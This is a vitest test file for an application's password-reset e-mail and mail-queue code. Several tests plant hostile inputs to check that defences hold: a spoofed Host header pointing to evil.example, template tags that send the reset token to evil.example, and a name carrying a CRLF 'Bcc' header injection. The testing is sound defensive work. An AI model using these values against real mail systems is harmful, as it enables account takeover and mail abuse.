import { once } from 'node:events';
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { type AddressInfo, createServer, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { eq, isNotNull } from 'drizzle-orm';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { auth } from '#contract/auth.ts';
import { createMailQueue, leaseMilliseconds } from '#server/mail/mail-queue.ts';
import { createMailWorker } from '#server/mail/mail-worker.ts';
import { renderTemplate } from '#server/mail/render.ts';
import { systemMails } from '#server/mail/system-mails.ts';
import { systemTexts } from '#server/mail/system-texts.ts';
import { createFolderTransport, createSmtpTransport } from '#server/mail/transports.ts';
import { accountStatusChanges, accounts } from '#server/modules/accounts/accounts.table.ts';
import { emailTemplates } from '#server/modules/email-templates/email-templates.table.ts';
import type { Register } from '#server/modules/index.ts';
import { mailJobs } from '#server/modules/mail/mail.table.ts';
import { engines } from '#tests/support/engines.ts';
import { startMailServer } from '#tests/support/mail-server.ts';
import { type Mailbox, startMailbox } from '#tests/support/mailbox.ts';
import { startTestServer, type TestServer } from '#tests/support/test-server.ts';

const letterOf = ({ id, template, recipient }: typeof mailJobs.$inferSelect) => ({
  ...{ id, template, subject: 'Hello', html: '<p>Hello</p>', text: 'Hello' },
  from: { name: 'Lectern', address: 'desk@example.com' },
  to: { name: '', address: recipient ?? '' },
});

/** A busy machine takes its time. */
const waiting = { timeout: 30_000 };

describe.each(engines)('e-mail on $name', (engine) => {
  let mailbox: Mailbox;
  let server: TestServer;
  let now = Date.now();
  const clock = { now: () => new Date(now) };
  beforeAll(async () => {
    mailbox = await startMailbox();
    server = await startTestServer(engine, {
      clock,
      environment: { SMTP_URL: mailbox.url, PUBLIC_URL: 'https://staff.example.com', MAIL_FROM: 'desk@example.com' },
      listen: true,
    });
  });
  afterAll(async () => {
    await server.close();
    await mailbox.close();
  });
  beforeEach(() => {
    mailbox.received.length = 0;
    // Asking for a new password is limited by the hour.
    now += 3_600_001;
  });
  afterEach(() => server.db.delete(mailJobs));

  const forget = (email: string, headers: Record<string, string> = {}) =>
    server.call(auth.forgotPassword, { body: { email }, headers });
  const jobs = () => server.db.select().from(mailJobs);

  it('arrives as HTML and as text, in the language of the person', async () => {
    await server.db
      .update(accounts)
      .set({ language: 'de', firstName: 'Käthe' })
      .where(eq(accounts.id, server.people.editor));
    await forget('editor@people.test');
    const mail = await mailbox.next('editor@people.test');
    expect(mail.subject).toBe('Wählen Sie ein neues Passwort');
    expect(mail.from).toMatchObject({ name: 'Lectern', address: 'desk@example.com' });
    expect(mail.html).toContain('<html lang="de">');
    expect(mail.html).toContain('Guten Tag Käthe');
    expect(mail.text).toContain('Guten Tag Käthe,');
    // A link stands in angle brackets; nothing else is left of the markup.
    expect(mail.text).not.toMatch(/<(?!https:)/);
  });

  it('links to the configured address, never to what the Host header says', async () => {
    await forget('admin@people.test', { host: 'evil.example', 'x-forwarded-host': 'evil.example' });
    const mail = await mailbox.next('admin@people.test');
    expect(mail.text).toMatch(/https:\/\/staff\.example\.com\/reset-password#[\w-]{43}/);
    expect(mail.raw).not.toContain('evil.example');
  });

  it('uses the marketplace’s own text where there is one in the language, and the built-in one where that is broken or has no link', async () => {
    const own = {
      ...{ key: 'reset-password', name: 'Own', subjectEn: 'Own {{ firstName }}', bodyEn: '<p>{{ resetUrl }}</p>' },
      ...{ subjectDe: 'Eigenes', bodyDe: '<p>{{ resetUrl }}</p>' },
    };
    await server.db.insert(emailTemplates).values(own);
    await forget('admin@people.test');
    expect((await mailbox.next('admin@people.test')).subject).toBe('Own admin');
    await server.db.update(accounts).set({ language: 'de' }).where(eq(accounts.id, server.people.admin));
    await forget('admin@people.test');
    const german = await mailbox.next('admin@people.test');
    expect([german.subject, german.html]).toEqual(['Eigenes', expect.stringContaining('<html lang="de">')]);
    await server.db.update(accounts).set({ language: 'en' }).where(eq(accounts.id, server.people.admin));
    await server.db.update(emailTemplates).set({ bodyEn: '{% nonsense' }).where(eq(emailTemplates.key, own.key));
    await forget('admin@people.test');
    expect((await mailbox.next('admin@people.test')).subject).toBe('Choose a new password');
    for (const bodyEn of ['<p>No link</p>', '<p><a href="{{ resetUrl }}&utm_source=mail">Choose</a></p>']) {
      await server.db.update(emailTemplates).set({ bodyEn }).where(eq(emailTemplates.key, own.key));
      await forget('admin@people.test');
      const { subject, html } = await mailbox.next('admin@people.test');
      expect(subject).toBe('Choose a new password');
      const token = /#([\w-]{43})/.exec(String(html))?.[1] ?? '';
      expect((await server.call(auth.checkForValidToken, { body: { token } })).status).toBe(200);
    }
    await server.db.delete(emailTemplates);
  });

  it('tells its link to whom it goes alone, whatever its text does with it', async () => {
    const bodyEn = `<p><a href="{{ resetUrl }}">Choose</a> or {{ resetUrl }}</p>
      <img src="https://evil.example/{{ resetUrl | url_encode }}.png" alt="">
      <img src="{{ resetUrl }}" alt="">
      <a href="https://evil.example/?{{ resetUrl }}">Elsewhere</a>
      <a href="https://evil.example/?{{ resetUrl | split: '#' | last | base64_encode }}">Elsewhere</a>`;
    await server.db
      .insert(emailTemplates)
      .values({ key: 'reset-password', name: 'Own', subjectEn: 'Own {{ resetUrl }}', bodyEn });
    await forget('admin@people.test');
    const { subject, html } = await mailbox.next('admin@people.test');
    await server.db.delete(emailTemplates);
    const links = String(html).match(/https:\/\/staff\.example\.com\/reset-password#[\w-]{43}/g) ?? [];
    const token = /href="[^"]*#([\w-]{43})"[^>]*>Choose/.exec(String(html))?.[1] ?? '';
    expect((await server.call(auth.checkForValidToken, { body: { token } })).status).toBe(200);
    expect(links.filter((link) => link.endsWith(token))).toHaveLength(2);
    const others = [subject, ...(String(html).match(/<img[^>]*>|<a[^>]*evil[^>]*>/g) ?? [])];
    expect(others.length).toBeGreaterThan(3);
    for (const other of others) {
      expect(other).not.toContain(token);
      expect(other).not.toContain(Buffer.from(token).toString('base64'));
    }
  });

  it('lets nobody’s name become a header, a recipient or markup', async () => {
    const name = 'Eve\r\nBcc: victim@example.com\r\n<img src=x>';
    await server.db
      .update(accounts)
      .set({ firstName: name, displayName: name })
      .where(eq(accounts.id, server.people.superAdmin));
    await server.db.insert(emailTemplates).values({
      key: 'reset-password',
      name: 'x',
      subjectEn: '{{ firstName }}',
      bodyEn: '<p>{{ firstName }} {{ resetUrl }}</p>',
    });
    await forget('superadmin@people.test');
    const mail = await mailbox.next('superadmin@people.test');
    expect(mail.recipients).toEqual(['superadmin@people.test']);
    expect(mail.bcc).toBeFalsy();
    expect(mail.raw.split('\r\n\r\n')[0]).not.toMatch(/^bcc:|=0D|=0A/im);
    expect(mail.html).not.toContain('<img');
    await server.db.delete(emailTemplates);
  });

  it('keeps no token in the database', async () => {
    mailbox.refuse('admin@people.test', 451);
    await forget('admin@people.test');
    await vi.waitFor(async () => expect((await jobs())[0]?.lastError).toBeTruthy(), waiting);
    expect(JSON.stringify(await jobs())).not.toMatch(/[\w-]{43}/);
  });

  it('tries again after a failure, and is told only once', async () => {
    mailbox.refuse('admin@people.test', 451, 451);
    await forget('admin@people.test');
    await vi.waitFor(async () => expect((await jobs())[0]).toMatchObject({ tries: 1, claimedUntil: null }), waiting);
    now += 31_000;
    await vi.waitFor(async () => expect((await jobs())[0]).toMatchObject({ tries: 2, claimedUntil: null }), {
      timeout: 30_000,
    });
    now += 61_000;
    await mailbox.next('admin@people.test');
    await vi.waitFor(async () => expect((await jobs())[0]?.sentAt).not.toBeNull(), waiting);
    expect(mailbox.received).toEqual([]);
  });

  it('gives up at once what the mail server refuses for good', async () => {
    mailbox.refuse('admin@people.test', 550);
    await forget('admin@people.test');
    await vi.waitFor(
      async () => expect((await jobs())[0]).toMatchObject({ tries: 1, sentAt: null, droppedAt: expect.any(Date) }),
      waiting,
    );
  });

  it('waits while the mail server lets nobody in, and goes once the password is right', async () => {
    let password = 'changed meanwhile';
    const smtp = await startMailServer('lectern', '', {
      onAuth: ({ password: given }, _session, done) =>
        given === password
          ? done(null, { user: 'lectern' })
          : done(Object.assign(new Error('5.7.8 Authentication failed'), { responseCode: 535 })),
    });
    const environment = { SMTP_URL: smtp.url('lectern', 'configured') };
    const sending = await startTestServer(engine, { clock, environment, listen: true });
    const queued = () => sending.db.select().from(mailJobs);
    await sending.call(auth.forgotPassword, { body: { email: 'admin@people.test' } });
    await vi.waitFor(async () => expect((await queued())[0]).toMatchObject({ tries: 1, claimedUntil: null }), waiting);
    expect((await queued())[0]).toMatchObject({ droppedAt: null, lastError: expect.stringContaining('535') });
    password = 'configured';
    now += 31_000;
    await vi.waitFor(async () => expect((await queued())[0]?.sentAt).not.toBeNull(), waiting);
    expect(smtp.letters()).toBe(1);
    await sending.close();
    await smtp.close();
  });

  it('whose text a later release has is left to a server of that', async () => {
    const queue = createMailQueue({ db: server.db, clock });
    const mail = { template: 'of-a-later-release', accountId: server.people.admin };
    await server.db.transact({}, (transaction) => queue.add(mail, transaction));
    await vi.waitFor(async () => expect((await jobs())[0]).toMatchObject({ tries: 1, claimedUntil: null }), waiting);
    expect((await jobs())[0]).toMatchObject({ droppedAt: null, lastError: expect.stringContaining('no text') });
  });

  it('says in the log why one was not sent, and not to whom', async () => {
    mailbox.refuse('admin@people.test', 550);
    await forget('admin@people.test');
    await vi.waitFor(async () => expect(String((await jobs())[0]?.lastError)).toContain('admin@people.test'), waiting);
    expect(server.logged()).toContain('EMESSAGE 550 5.1.1');
    expect(server.logged()).not.toMatch(/[\w.]+@people\.test/);
  });

  it('is taken over when the server that was sending it died', async () => {
    const claimedUntil = new Date(now + leaseMilliseconds);
    await server.db.insert(mailJobs).values({
      template: 'password-changed',
      accountId: server.people.admin,
      variables: { changedAt: clock.now().toISOString() },
      createdAt: clock.now(),
      dueAt: clock.now(),
      claimedUntil,
      tries: 1,
    });
    await forget('nobody@people.test');
    await vi.waitFor(async () => expect((await jobs()).filter(({ droppedAt }) => droppedAt)).toHaveLength(1), waiting);
    expect(mailbox.received).toEqual([]);
    now += leaseMilliseconds + 1_000;
    expect((await mailbox.next('admin@people.test')).subject).toBe('Your password was changed');
  });

  it('is taken by one of several servers', async () => {
    // One that does not listen sends nothing itself.
    const idle = await startTestServer(engine);
    const queue = createMailQueue({ db: idle.db, clock });
    await idle.db.transact({}, async (transaction) => {
      for (let count = 0; count < 5; count += 1)
        await queue.add({ template: 'x', recipient: `${count}@people.test` }, transaction);
    });
    const taken = await Promise.all(Array.from({ length: 8 }, () => queue.claim()));
    const ids = taken.flatMap((job) => (job ? [job.id] : []));
    expect(new Set(ids).size).toBe(5);
    expect(ids).toHaveLength(5);
    const left = await idle.db.select().from(mailJobs);
    expect(left.map(({ tries }) => tries)).toEqual([1, 1, 1, 1, 1]);
    await idle.close();
  });

  it('about a decision goes behind an older one about the same person, which waits longer as the mail server was away', async () => {
    const idle = await startTestServer(engine);
    const queue = createMailQueue({ db: idle.db, clock });
    const { admin: accountId, editor } = idle.people;
    const decide = async (of: string) => {
      const values = { accountId: of, fromStatus: 'active', toStatus: 'suspended', changedAt: clock.now() } as const;
      const [made] = await idle.db.insert(accountStatusChanges).values(values).returning();
      return { accountId: of, statusChangeId: made?.id as number };
    };
    const add = async (template: string, mail: Omit<Parameters<typeof queue.add>[0], 'template' | 'recipient'>) => {
      await idle.db.transact({}, (transaction) => queue.add({ template, accountId, ...mail }, transaction));
      now += 1;
    };
    const claimed = async () => (await queue.claim())?.template;

    await add('suspended', await decide(accountId));
    for (const pause of [31_000, 61_000, 0]) {
      const job = await queue.claim();
      if (job) await queue.retryLater(job, 'the mail server is away');
      now += pause;
    }
    await add('reinstated', await decide(accountId));
    await add('of somebody else', await decide(editor));
    await add('password', {});
    // Whoever waits for a link does not wait until all have heard of a decision.
    expect([await claimed(), await claimed(), await claimed()]).toEqual(['password', 'of somebody else', undefined]);
    await idle.db.update(mailJobs).set({ sentAt: clock.now() }).where(isNotNull(mailJobs.claimedUntil));
    now += leaseMilliseconds + 1_000;
    const older = await queue.claim();
    expect(older?.template).toBe('suspended');
    // While one server sends it, no other takes the newer one.
    expect(await claimed()).toBeUndefined();
    await queue.sent(older?.id ?? '', { recipient: 'admin@people.test' });
    expect(await claimed()).toBe('reinstated');

    await idle.db.delete(mailJobs);
    await add('refused', await decide(accountId));
    await add('next', await decide(accountId));
    const refused = await queue.claim();
    if (refused) await queue.drop(refused, '550 unknown');
    expect(await claimed()).toBe('next');
    await idle.close();
  });

  it('still arrives where nobody could set the mail server right over a weekend', async () => {
    const idle = await startTestServer(engine);
    const queue = createMailQueue({ db: idle.db, clock });
    await idle.db.transact({}, (transaction) =>
      queue.add({ template: 'x', recipient: 'late@people.test' }, transaction),
    );
    const begun = now;
    /** @returns whether it was tried until then, each time in vain. */
    const failUntil = async (hours: number) => {
      let tried = false;
      for (; now < begun + hours * 3_600_000; now += 1_800_000) {
        const job = await queue.claim();
        if (job) await queue.retryLater(job, '535 5.7.8 the password has expired');
        tried ||= job !== undefined;
      }
      return tried;
    };
    await failUntil(96);
    expect(await idle.db.select().from(mailJobs)).toMatchObject([{ sentAt: null, droppedAt: null }]);
    expect(await failUntil(5 * 24 + 12)).toBe(true);
    expect(await idle.db.select().from(mailJobs)).toMatchObject([{ sentAt: null, droppedAt: expect.any(Date) }]);
    await idle.close();
  });

  it('goes once where the database is away when the mail server has taken it', async () => {
    const idle = await startTestServer(engine);
    const queue = createMailQueue({ db: idle.db, clock });
    await idle.db.transact({}, (transaction) =>
      queue.add({ template: 'x', recipient: 'once@people.test' }, transaction),
    );
    let outages = 1;
    const away = () => Promise.reject(Object.assign(new Error('terminating connection'), { code: '57P01' }));
    const worker = createMailWorker({
      queue: { ...queue, sent: (...said) => (outages-- > 0 ? away() : queue.sent(...said)) },
      compose: async (job) => letterOf(job),
      transport: createSmtpTransport(mailbox.url),
      log: idle.app.log,
      pollMilliseconds: 20,
    });
    worker.start();
    await mailbox.next('once@people.test');
    const job = async () => (await idle.db.select().from(mailJobs))[0];
    now += 300_000;
    await vi.waitFor(async () => expect((await job())?.sentAt).toBeInstanceOf(Date), waiting);
    await worker.stop();
    // The one that was taken out of the mailbox above was all.
    expect(mailbox.received).toEqual([]);
    expect(await job()).toMatchObject({ tries: 1, lastError: null });
    await idle.close();
  });

  it('that has gone is not given up by a server whose lease was over', async () => {
    const idle = await startTestServer(engine);
    const queue = createMailQueue({ db: idle.db, clock });
    await idle.db.transact({}, (transaction) =>
      queue.add({ template: 'x', recipient: 'late@people.test' }, transaction),
    );
    const late = await queue.claim();
    now += leaseMilliseconds + 1_000;
    const next = await queue.claim();
    if (!late || !next) throw new Error('The e-mail was not claimed twice.');
    await queue.retryLater(late, 'no answer');
    expect(await queue.claim()).toBeUndefined();
    await queue.sent(next.id, { recipient: 'late@people.test' });
    await queue.drop(next, '550 unknown');
    expect(await idle.db.select().from(mailJobs)).toMatchObject([{ droppedAt: null, lastError: null }]);
    await idle.close();
  });

  it('that is sent again is not given up by a server that held it before', async () => {
    const idle = await startTestServer(engine);
    const queue = createMailQueue({ db: idle.db, clock });
    const { editor: accountId } = idle.people;
    const decision = { accountId, fromStatus: 'active', toStatus: 'suspended', changedAt: clock.now() } as const;
    const [made] = await idle.db.insert(accountStatusChanges).values(decision).returning();
    const letter = { template: 'x', accountId, statusChangeId: made?.id as number, variables: { body: 'Hello' } };
    await idle.db.transact({}, (transaction) => queue.add(letter, transaction));
    const late = await queue.claim();
    now += leaseMilliseconds + 1_000;
    const next = await queue.claim();
    if (!late || !next) throw new Error('The letter was not claimed twice.');
    await queue.drop(next, '550 unknown');
    await idle.db.transact({}, (transaction) => queue.sendAgain(next.id, transaction));
    const again = await queue.claim();
    expect(again).toMatchObject({ id: late.id, tries: late.tries });
    await queue.drop(late, 'no answer');
    expect(await idle.db.select().from(mailJobs)).toMatchObject([{ droppedAt: null, lastError: null, tries: 1 }]);
    await idle.close();
  });

  it('waits unclaimed when its server stops, for the next one', async () => {
    const idle = await startTestServer(engine);
    const queue = createMailQueue({ db: idle.db, clock });
    for (const recipient of ['first@people.test', 'second@people.test']) {
      await idle.db.transact({}, (transaction) => queue.add({ template: 'x', recipient }, transaction));
      now += 1;
    }
    const worker = createMailWorker({
      queue,
      compose: async (job) => letterOf(job),
      transport: createSmtpTransport(mailbox.url),
      log: idle.app.log,
    });
    worker.start();
    await mailbox.next('first@people.test');
    await worker.stop();
    const left = await idle.db.select().from(mailJobs).orderBy(mailJobs.dueAt);
    expect(left).toMatchObject([{ sentAt: expect.any(Date) }, { tries: 0, claimedUntil: null, sentAt: null }]);
    await idle.close();
  });

  it('keeps nothing else from ending with its server, however long a mail server is silent', async () => {
    const sockets: Socket[] = [];
    const silent = createServer((socket) => sockets.push(socket));
    await once(silent.listen(0, '127.0.0.1'), 'listening');
    let hasEnded = false;
    const ends: Register = ({ app }) =>
      app.addHook('preClose', async () => {
        hasEnded = true;
      });
    const closing = await startTestServer(engine, {
      environment: { SMTP_URL: `smtp://127.0.0.1:${(silent.address() as AddressInfo).port}` },
      listen: true,
      modules: [ends],
    });
    await closing.call(auth.forgotPassword, { body: { email: 'admin@people.test' } });
    await expect.poll(() => sockets.length, waiting).toBe(1);
    const closed = closing.close();
    // A greeting is waited for ten seconds.
    await expect.poll(() => hasEnded, { timeout: 5_000 }).toBe(true);
    for (const socket of sockets) socket.destroy();
    silent.close();
    await closed;
  });

  it('lands as files that a browser opens where no mail server is configured, and says where', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'lectern-outbox-'));
    const said: string[] = [];
    const plain = await startTestServer(engine, {
      environment: { DATA_DIR: folder },
      listen: true,
      announce: (line) => said.push(line),
    });
    await plain.call(auth.forgotPassword, { body: { email: 'admin@people.test' } });
    await expect.poll(() => said.length).toBe(1);
    const names = await readdir(join(folder, 'outbox'));
    expect(names.map((name) => name.split('.').at(-1)).sort()).toEqual(['eml', 'html']);
    const html = await readFile(join(folder, 'outbox', names.find((name) => name.endsWith('html')) ?? ''), 'utf8');
    expect(html).toContain(`${plain.url}/reset-password#`);
    expect(said[0]).toContain(join(folder, 'outbox'));
    expect(said[0]).not.toMatch(/[\w-]{43}/);
    await plain.close();
    await rm(folder, { recursive: true });
  });
});

describe('the folder of letters', () => {
  it('keeps every letter, however many go to whomever in one second', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'lectern-outbox-'));
    const transport = createFolderTransport(folder, () => undefined);
    const letter = {
      id: crypto.randomUUID(),
      template: 'reset-password',
      from: { name: 'Lectern', address: 'no-reply@people.test' },
      to: { name: 'Anna', address: `${'anna.of.the.very.long.name.'.repeat(4)}@people.test` },
      subject: 'Hello',
      html: '<p>Hello</p>',
      text: 'Hello',
    };
    // The same one again, as after a try that broke off, and another.
    for (const one of [letter, letter, { ...letter, id: crypto.randomUUID() }]) await transport.send(one);
    expect(await readdir(folder)).toHaveLength(6);
    await rm(folder, { recursive: true });
  });
});

describe('built-in e-mails', () => {
  const mails = Object.keys(systemMails) as (keyof typeof systemMails)[];
  const placeholders = (text: string) => [...text.matchAll(/\{\{ (\w+) \}\}/g)].map(([, name]) => name).sort();

  it.each(mails)('%s says the same in every language', (mail) => {
    const english = systemTexts.en[mail];
    for (const texts of Object.values(systemTexts)) {
      expect(placeholders(texts[mail].body)).toEqual(placeholders(english.body));
      expect(() => renderTemplate(texts[mail], {})).not.toThrow();
    }
    expect(new Set(Object.values(systemTexts).map((texts) => texts[mail].subject)).size).toBe(4);
  });
});
